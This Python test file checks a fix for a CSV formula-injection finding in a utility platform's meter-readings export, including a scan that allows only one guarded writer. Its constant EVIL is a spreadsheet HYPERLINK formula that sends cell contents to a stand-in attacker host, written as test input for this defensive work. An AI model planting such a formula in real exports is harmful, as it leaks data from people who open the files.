"""Finding 11 of the security review, kept fixed:

  "Spreadsheet formulas: the meters CSV export writes cells without the
  formula guard the generic export uses. Every CSV/XLSX writer of the
  platform goes through one guarded writer."

Cells a spreadsheet would run as a formula (=, +, -, @, tab, CR at the
start, unless the cell is a number) are written with a leading apostrophe,
by lk_platform.util.streaming.SheetWriter, the only CSV writer there is."""
from __future__ import annotations

import ast
import csv
import glob
import io
import os

from lk_meters.meters import meters_folder
from lk_platform.util import periods
from lk_platform.util.streaming import SheetWriter, safe_cell

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'


def test_safe_cell_neutralises_formulas_but_keeps_numbers():
    for text in (EVIL, "+7 495 123-45-67", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for text in ("-12,50", "+3.5", "1234", "Иванов", "", None):
        assert safe_cell(text) == ("" if text is None else text)
    buf = io.StringIO()
    SheetWriter(buf).writerow([EVIL, "-1,5", "обычный"])
    assert next(csv.reader(io.StringIO(buf.getvalue()), delimiter=";")) == ["'" + EVIL, "-1,5", "обычный"]


def test_meters_billing_export_guards_staff_entered_cells(demo_browser, lk_db):
    with lk_db as platform:
        org = platform.organisations["vodokanal"]
        folder = meters_folder(org)
        _total, found = folder.query(eq={"serial": "ХВ-1000011"}, limit=1)
        meter = found[0]
        meter.serial = EVIL
        folder.reindex(meter)
        period = periods.iso(periods.add(periods.of_date(org.now().date()), -1))
    demo_browser.login("admin.vodokanal")
    res = demo_browser.post_csrf("/o/vodokanal/@@meter-readings-export", {"period": period, "format": "csv"})
    rows = list(csv.reader(io.StringIO(res.body.decode("utf-8-sig")), delimiter=";"))
    serials = [r[6] for r in rows[1:]]
    assert "'" + EVIL in serials and EVIL not in serials


def test_no_other_csv_writer_in_the_core_or_the_bundled_plugins():
    offenders = []
    paths = glob.glob(os.path.join(REPO, "lk_platform", "**", "*.py"), recursive=True) + \
        [p for p in glob.glob(os.path.join(REPO, "plugins", "*", "lk_*", "**", "*.py"), recursive=True)]
    for path in paths:
        if path.endswith(os.path.join("util", "streaming.py")):
            continue
        for node in ast.walk(ast.parse(open(path, encoding="utf-8").read())):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(os.path.relpath(path, REPO))
            if isinstance(node, (ast.Import, ast.ImportFrom)) and any(
                    (getattr(node, "module", "") or "").startswith(("openpyxl", "xlsxwriter")) or
                    a.name.startswith(("openpyxl", "xlsxwriter")) for a in node.names):
                offenders.append(os.path.relpath(path, REPO))
    assert offenders == []
